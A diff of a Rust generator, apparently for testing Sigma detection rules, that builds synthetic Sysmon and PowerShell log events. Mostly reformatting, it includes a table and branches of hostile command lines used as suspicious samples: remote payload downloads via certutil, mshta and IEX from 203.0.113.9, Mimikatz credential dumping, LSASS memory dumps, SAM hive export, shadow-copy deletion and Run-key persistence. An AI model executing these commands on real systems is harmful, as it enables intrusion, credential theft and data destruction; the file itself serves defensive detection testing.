@@ -6,39 +6,115 @@ use super::Draw;
 use crate::rsigma::{CATEGORY, PRODUCT, SERVICE};
 
 const PROGRAMS: [(&str, &str, &str); 24] = [
-    (r"C:\Windows\System32\svchost.exe", "svchost.exe", r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {}"),
-    (r"C:\Windows\System32\conhost.exe", "CONHOST.EXE", r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1"),
-    (r"C:\Program Files\Google\Chrome\Application\chrome.exe", "chrome.exe", r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={} --mojo-platform-channel-handle={}"#),
-    (r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe", "msedge.exe", r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={} /prefetch:8"#),
-    (r"C:\Windows\System32\RuntimeBroker.exe", "RuntimeBroker.exe", r"C:\Windows\System32\RuntimeBroker.exe -Embedding"),
+    (
+        r"C:\Windows\System32\svchost.exe",
+        "svchost.exe",
+        r"C:\Windows\system32\svchost.exe -k netsvcs -p -s {}",
+    ),
+    (
+        r"C:\Windows\System32\conhost.exe",
+        "CONHOST.EXE",
+        r"\??\C:\Windows\system32\conhost.exe 0xffffffff -ForceV1",
+    ),
+    (
+        r"C:\Program Files\Google\Chrome\Application\chrome.exe",
+        "chrome.exe",
+        r#""C:\Program Files\Google\Chrome\Application\chrome.exe" --type=renderer --lang=en-US --renderer-client-id={} --mojo-platform-channel-handle={}"#,
+    ),
+    (
+        r"C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe",
+        "msedge.exe",
+        r#""C:\Program Files (x86)\Microsoft\Edge\Application\msedge.exe" --type=utility --utility-sub-type=network.mojom.NetworkService --field-trial-handle={} /prefetch:8"#,
+    ),
+    (
+        r"C:\Windows\System32\RuntimeBroker.exe",
+        "RuntimeBroker.exe",
+        r"C:\Windows\System32\RuntimeBroker.exe -Embedding",
+    ),
     (r"C:\Windows\System32\taskhostw.exe", "taskhostw.exe", r"taskhostw.exe {}"),
-    (r"C:\Windows\System32\cmd.exe", "Cmd.Exe", r#"C:\Windows\system32\cmd.exe /c ""C:\Scripts\inventory.cmd" {}""#),
-    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -File C:\Scripts\Check-Disk{}.ps1"#),
-    (r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE", "Outlook.exe", r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#),
-    (r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE", "WinWord.exe", r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Documents\report {}.docx""#),
+    (
+        r"C:\Windows\System32\cmd.exe",
+        "Cmd.Exe",
+        r#"C:\Windows\system32\cmd.exe /c ""C:\Scripts\inventory.cmd" {}""#,
+    ),
+    (
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        "PowerShell.EXE",
+        r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -NoProfile -File C:\Scripts\Check-Disk{}.ps1"#,
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE",
+        "Outlook.exe",
+        r#""C:\Program Files\Microsoft Office\root\Office16\OUTLOOK.EXE" /recycle"#,
+    ),
+    (
+        r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE",
+        "WinWord.exe",
+        r#""C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE" /n "C:\Users\jdoe\Documents\report {}.docx""#,
+    ),
     (r"C:\Windows\explorer.exe", "EXPLORER.EXE", r"C:\Windows\Explorer.EXE"),
-    (r"C:\Windows\System32\SearchProtocolHost.exe", "SearchProtocolHost.exe", r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{}_ Global\UsGthrCtrlFltPipeMssGthrPipe{} 1 -2147483646"#),
-    (r"C:\Windows\System32\wbem\WmiPrvSE.exe", "Wmiprvse.exe", r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding"),
-    (r"C:\Windows\System32\backgroundTaskHost.exe", "backgroundTaskHost.exe", r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{}.mca"#),
-    (r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe", "MpCmdRun.exe", r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges"#),
+    (
+        r"C:\Windows\System32\SearchProtocolHost.exe",
+        "SearchProtocolHost.exe",
+        r#""C:\Windows\system32\SearchProtocolHost.exe" Global\UsGthrFltPipeMssGthrPipe{}_ Global\UsGthrCtrlFltPipeMssGthrPipe{} 1 -2147483646"#,
+    ),
+    (
+        r"C:\Windows\System32\wbem\WmiPrvSE.exe",
+        "Wmiprvse.exe",
+        r"C:\Windows\system32\wbem\wmiprvse.exe -secured -Embedding",
+    ),
+    (
+        r"C:\Windows\System32\backgroundTaskHost.exe",
+        "backgroundTaskHost.exe",
+        r#""C:\Windows\system32\backgroundTaskHost.exe" -ServerName:App.AppX{}.mca"#,
+    ),
+    (
+        r"C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe",
+        "MpCmdRun.exe",
+        r#""C:\ProgramData\Microsoft\Windows Defender\Platform\4.18.24090.11-0\MpCmdRun.exe" SignatureUpdate -ScheduleJob -RestrictPrivileges"#,
+    ),
     (r"C:\Program Files\Git\cmd\git.exe", "git.exe", "git.exe status --porcelain=v2 --branch {}"),
-    (r"C:\Program Files\nodejs\node.exe", "node.exe", r#""C:\Program Files\nodejs\node.exe" C:\work\app{}\server.js --port 30{}"#),
+    (
+        r"C:\Program Files\nodejs\node.exe",
+        "node.exe",
+        r#""C:\Program Files\nodejs\node.exe" C:\work\app{}\server.js --port 30{}"#,
+    ),
     (r"C:\Windows\System32\dllhost.exe", "dllhost.exe", r"C:\Windows\system32\DllHost.exe /Processid:{}"),
     (r"C:\Windows\System32\msiexec.exe", "msiexec.exe", r"C:\Windows\system32\msiexec.exe /V"),
     (r"C:\Windows\System32\sc.exe", "sc.exe", "sc query wuauserv"),
     (r"C:\Windows\System32\ipconfig.exe", "ipconfig.exe", "ipconfig /all"),
     (r"C:\Windows\System32\schtasks.exe", "schtasks.exe", r"schtasks /query /tn \Backup\Nightly{}"),
-    (r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", r"C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask"),
+    (
+        r"C:\Windows\System32\rundll32.exe",
+        "RUNDLL32.EXE",
+        r"C:\Windows\system32\rundll32.exe C:\Windows\system32\PcaSvc.dll,PcaPatchSdbTask",
+    ),
     (r"C:\Program Files\7-Zip\7z.exe", "7z.exe", r"7z.exe a D:\backup\{}.7z C:\work"),
 ];
 const SUSPICIOUS: [(&str, &str, &str); 8] = [
-    (r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe", "PowerShell.EXE", "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA"),
-    (r"C:\Windows\System32\certutil.exe", "CertUtil.exe", r"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe"),
+    (
+        r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
+        "PowerShell.EXE",
+        "powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA",
+    ),
+    (
+        r"C:\Windows\System32\certutil.exe",
+        "CertUtil.exe",
+        r"certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\Users\Public\a.exe",
+    ),
     (r"C:\Windows\System32\vssadmin.exe", "VSSADMIN.EXE", "vssadmin.exe delete shadows /all /quiet"),
     (r"C:\Windows\System32\whoami.exe", "whoami.exe", "whoami /all"),
     (r"C:\Windows\System32\net.exe", "net.exe", r#"net group "domain admins" /domain"#),
-    (r"C:\Windows\System32\mshta.exe", "MSHTA.EXE", r#"mshta.exe vbscript:Close(Execute("GetObject(""script:http://203.0.113.9/x.sct"")"))"#),
-    (r"C:\Windows\System32\rundll32.exe", "RUNDLL32.EXE", r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full"),
+    (
+        r"C:\Windows\System32\mshta.exe",
+        "MSHTA.EXE",
+        r#"mshta.exe vbscript:Close(Execute("GetObject(""script:http://203.0.113.9/x.sct"")"))"#,
+    ),
+    (
+        r"C:\Windows\System32\rundll32.exe",
+        "RUNDLL32.EXE",
+        r"rundll32.exe C:\windows\System32\comsvcs.dll, MiniDump 624 C:\Users\Public\l.dmp full",
+    ),
     (r"C:\Windows\System32\reg.exe", "reg.exe", r"reg save HKLM\SAM C:\Users\Public\sam.hiv"),
 ];
 const PARENTS: [&str; 8] = [
@@ -51,8 +127,15 @@ const PARENTS: [&str; 8] = [
     r"C:\Windows\System32\wbem\WmiPrvSE.exe",
     r"C:\Windows\System32\userinit.exe",
 ];
-const USERS: [&str; 7] =
-    [r"NT AUTHORITY\SYSTEM", r"CORP\jdoe", r"CORP\asmith", r"NT AUTHORITY\NETWORK SERVICE", r"CORP\svc-backup", r"CORP\mlee", r"CORP\rkhan"];
+const USERS: [&str; 7] = [
+    r"NT AUTHORITY\SYSTEM",
+    r"CORP\jdoe",
+    r"CORP\asmith",
+    r"NT AUTHORITY\NETWORK SERVICE",
+    r"CORP\svc-backup",
+    r"CORP\mlee",
+    r"CORP\rkhan",
+];
 const KEYS: [&str; 8] = [
     r"HKLM\System\CurrentControlSet\Services\bam\State\UserSettings\S-1-5-21-{}\Sequence",
     r"HKU\S-1-5-21-{}\Software\Microsoft\Windows\CurrentVersion\Explorer\RecentDocs\MRUListEx",
@@ -82,8 +165,13 @@ const LIBRARIES: [&str; 6] = [
     r"C:\Program Files\Microsoft Office\root\Office16\mso.dll",
 ];
 const SITES: [&str; 7] = [
-    "teams.microsoft.com", "outlook.office365.com", "ctldl.windowsupdate.com", "github.com", "cdn.jsdelivr.net",
-    "files.corp.example", "telemetry.vendor.example",
+    "teams.microsoft.com",
+    "outlook.office365.com",
+    "ctldl.windowsupdate.com",
+    "github.com",
+    "cdn.jsdelivr.net",
+    "files.corp.example",
+    "telemetry.vendor.example",
 ];
 
 fn filled(draw: &mut Draw, template: &str) -> String {
@@ -103,7 +191,14 @@ fn program(draw: &mut Draw) -> (&'static str, &'static str, &'static str) {
 
 /// An event of Sysmon with what all of them have.
 fn sysmon(draw: &mut Draw, number: usize, id: u64, category: &str, fields: Json) -> Json {
-    let time = format!("2026-05-{:02} {:02}:{:02}:{:02}.{:03}", 1 + number / 86_400 % 28, number / 3_600 % 24, number / 60 % 60, number % 60, draw.below(1_000));
+    let time = format!(
+        "2026-05-{:02} {:02}:{:02}:{:02}.{:03}",
+        1 + number / 86_400 % 28,
+        number / 3_600 % 24,
+        number / 60 % 60,
+        number % 60,
+        draw.below(1_000)
+    );
     let mut event = json!({
         PRODUCT: "windows", CATEGORY: category, SERVICE: "sysmon",
         "Channel": "Microsoft-Windows-Sysmon/Operational", "Provider_Name": "Microsoft-Windows-Sysmon", "EventID": id,
@@ -117,11 +212,7 @@ fn sysmon(draw: &mut Draw, number: usize, id: u64, category: &str, fields: Json)
 }
 
 pub(super) fn process_creation(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
-    let (image, original, line) = if suspicious {
-        draw.any(&SUSPICIOUS)
-    } else {
-        program(draw)
-    };
+    let (image, original, line) = if suspicious { draw.any(&SUSPICIOUS) } else { program(draw) };
     let parent = draw.one(&PARENTS);
     let fields = json!({
         "Image": image, "OriginalFileName": original, "CommandLine": filled(draw, line),
@@ -136,7 +227,11 @@ pub(super) fn process_creation(draw: &mut Draw, number: usize, suspicious: bool)
 }
 
 pub(super) fn registry_set(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
-    let key = if suspicious { r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\updater" } else { draw.one(&KEYS) };
+    let key = if suspicious {
+        r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run\updater"
+    } else {
+        draw.one(&KEYS)
+    };
     let details = if suspicious {
         r"C:\Users\Public\a.exe".to_owned()
     } else {
@@ -162,7 +257,11 @@ pub(super) fn network_connection(draw: &mut Draw, number: usize) -> Json {
 }
 
 pub(super) fn file_event(draw: &mut Draw, number: usize, suspicious: bool) -> Json {
-    let file = if suspicious { r"C:\Users\jdoe\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\run{}.bat" } else { draw.one(&FILES) };
+    let file = if suspicious {
+        r"C:\Users\jdoe\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\run{}.bat"
+    } else {
+        draw.one(&FILES)
+    };
     let image = program(draw).0;
     let fields = json!({"Image": image, "TargetFilename": filled(draw, file), "CreationUtcTime": "2026-05-01 00:00:00.000"});
     sysmon(draw, number, 11, "file_event", fields)
@@ -205,7 +304,10 @@ pub(super) fn script_block(draw: &mut Draw, number: usize, suspicious: bool) -> 
     let text = if suspicious {
         "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/p.ps1'); Invoke-Mimikatz -DumpCreds".to_owned()
     } else {
-        filled(draw, "function Get-DiskReport{} { param($Name) Get-CimInstance Win32_LogicalDisk -Filter \"DriveType=3\" | Where-Object { $_.FreeSpace -lt 10GB } | Select-Object DeviceID, FreeSpace | Export-Csv -Path C:\\Reports\\disk-{}.csv -NoTypeInformation }")
+        filled(
+            draw,
+            "function Get-DiskReport{} { param($Name) Get-CimInstance Win32_LogicalDisk -Filter \"DriveType=3\" | Where-Object { $_.FreeSpace -lt 10GB } | Select-Object DeviceID, FreeSpace | Export-Csv -Path C:\\Reports\\disk-{}.csv -NoTypeInformation }",
+        )
     };
     json!({
         PRODUCT: "windows", CATEGORY: "ps_script", SERVICE: "powershell",
